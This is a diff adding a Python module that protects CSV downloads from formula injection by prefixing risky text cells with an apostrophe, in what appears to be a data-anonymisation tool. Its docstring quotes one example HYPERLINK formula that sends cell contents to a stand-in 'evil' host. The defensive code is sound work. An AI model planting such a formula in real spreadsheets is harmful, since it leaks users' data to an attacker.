@@ -1,0 +1,47 @@
+"""CSV files for download that a spreadsheet cannot turn into formulas (CSV / formula injection).
+
+A cell whose text starts with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return is read as a
+formula by Excel, LibreOffice and Google Sheets: an uploaded ``=HYPERLINK("http://evil/?"&A1, "x")``
+that comes back verbatim in a k-anonymity or linkage table would run when the user opens the
+download. Following the OWASP recommendation, such text cells get a leading apostrophe ``'`` (shown
+as text, never evaluated). Numbers stay numbers: numeric columns are untouched, and a text cell that
+is a plain decimal number (``-3``, ``+1.5e3``) is left as it is, since a spreadsheet reads it as that
+number, not as a formula. Column names are treated like cells. Text cells are always quoted
+(``QUOTE_NONNUMERIC``): pandas' minimal quoting leaves a carriage return inside a cell unquoted, which
+splits the row when the file is read back.
+"""
+from __future__ import annotations
+
+import csv
+import re
+from typing import Any
+
+import pandas as pd
+
+TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
+_PLAIN_NUMBER = re.compile(r"^[+-]?(\d+(\.\d*)?|\.\d+)([eE][+-]?\d+)?$")
+
+
+def neutralise(value: Any) -> Any:
+    """``value`` with a leading ``'`` if it is text a spreadsheet would evaluate; anything else unchanged."""
+    if isinstance(value, str) and value.startswith(TRIGGERS) and not _PLAIN_NUMBER.match(value):
+        return "'" + value
+    return value
+
+
+def safe_frame(df: pd.DataFrame) -> pd.DataFrame:
+    """A copy of ``df`` whose text cells and column names are neutralised; numeric columns unchanged."""
+    out = df.copy()
+    for col in out.columns:
+        if not (pd.api.types.is_numeric_dtype(out[col]) or pd.api.types.is_bool_dtype(out[col])
+                or pd.api.types.is_datetime64_any_dtype(out[col])):
+            out[col] = out[col].map(neutralise)
+    out.columns = [neutralise(str(c)) for c in out.columns]
+    return out
+
+
+def to_csv(df: pd.DataFrame, index: bool = False, **kwargs) -> str:
+    """``df`` as CSV text that is safe to open in a spreadsheet."""
+    frame = df.reset_index() if index else df
+    kwargs.setdefault("quoting", csv.QUOTE_NONNUMERIC)
+    return safe_frame(frame).to_csv(index=False, **kwargs)
